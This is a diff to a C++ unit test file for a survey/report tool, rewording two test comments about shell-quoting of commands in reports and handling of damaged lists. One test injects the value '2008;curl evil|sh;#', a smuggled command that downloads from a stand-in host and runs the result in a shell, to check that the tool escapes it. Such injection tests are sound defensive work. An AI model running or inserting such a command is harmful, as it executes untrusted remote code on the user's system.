@@ -236,7 +236,7 @@ BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) 
     BOOST_TEST(contains(text, "strata compare '--drafts=2008,modern+fragment=svg desc' '"), text);
     BOOST_TEST(
         (contains(text, "it&#39;\\&#39;&#39;s $(a) page.html&#39;") || contains(text, "it'\\''s $(a) page.html'")));
-    // A result may come from anybody, so commands in the report must be safe.
+    // A result may come from anyone, so the commands in a report must be safe.
     std::string edited = survey({page});
     for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
         edited.replace(at, 4, "2008;curl evil|sh;#");
@@ -384,7 +384,7 @@ BOOST_AUTO_TEST_CASE(a_list_may_have_any_name_and_be_packed) {
     const auto empty = strata::report::parsed_json(
         survey({"--archives=" + folder.path(""), folder.write("empty.csv", "crawl.warc.gz,0,0\n")}));
     BOOST_TEST(empty.at("skipped").at("broken coordinates") == 1);
-    // A message about a damaged list says that the list is damaged.
+    // The survey reports a damaged list as damaged, and reads the part before the damage.
     std::string many;
     for (int i = 0; i < 20000; ++i) many += "crawl.warc.gz,0," + size + "\n";
     const std::string packed = deflated(many);
